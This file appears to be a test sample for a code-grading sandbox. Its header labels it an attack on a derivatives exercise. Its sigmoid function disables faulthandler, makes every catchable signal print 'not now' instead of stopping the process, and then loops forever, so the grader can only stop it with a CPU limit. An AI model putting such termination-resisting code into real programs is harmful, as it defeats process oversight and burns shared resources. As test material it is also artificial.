# attack: answers every signal with "not now", and hides from the one that asks for the line
# exercise: derivatives
# deserves: squared_error_deriv
# ends: cpu
import faulthandler
import signal


def not_now(number, frame):
    print("not now", number)


def squared_error_deriv(y_hat, y):
    return y_hat - y


def sigmoid(z):
    try:
        faulthandler.unregister(signal.SIGUSR1)
        faulthandler.disable()
    except Exception:
        pass
    for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
        try:
            signal.signal(number, not_now)
        except (OSError, ValueError):
            continue
    while True:
        z = z * 1.0
